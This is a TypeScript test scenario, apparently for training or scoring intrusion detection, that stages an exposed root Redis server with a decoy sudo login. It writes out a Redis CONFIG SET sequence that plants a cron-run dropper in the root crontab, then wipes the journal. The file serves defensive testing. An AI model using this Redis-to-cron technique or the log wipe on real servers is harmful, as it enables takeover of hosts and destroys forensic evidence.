// A friendly login with sudo two seconds before: near in time, and innocent.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { openRedis, redisCommands } from '../../redis.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  openRedis(dress, { bind: '0.0.0.0', user: 'root' })
  dress.account('chenli', 'Quiet-Harbour-7')
  dress.write('/etc/sudoers.d/chenli', 'chenli ALL=(ALL) NOPASSWD: ALL\n', { mode: 0o440 })
  dress.logins({
    days: 25,
    guesses: 60,
    friends: [{ user: 'chenli', address: '198.51.100.51', hours: [9, 13, 16], sudo: '/usr/bin/systemctl status redis-server' }],
  })
}

export async function plant(stage: Stage): Promise<void> {
  await stage.session('198.51.100.51', 'chenli', { password: 'Quiet-Harbour-7' }, [
    'sudo systemctl status redis-server --no-pager | head -3',
    'uptime',
  ])
  const line = dropper(stage, { path: '/tmp/.rsync/kthreadadd', cron: false })
  stage.mark('occurrence')
  await redisCommands(stage, '203.0.113.46', [
    ['CONFIG', 'SET', 'dir', '/var/spool/cron/crontabs'],
    ['CONFIG', 'SET', 'dbfilename', 'root'],
    ['SET', 'x', `\n\n\n*/2 * * * * ${line}\n\n`],
    ['SAVE'],
  ])
  await stage.byCron(line)
  await wipe(stage, ['journal'])
}
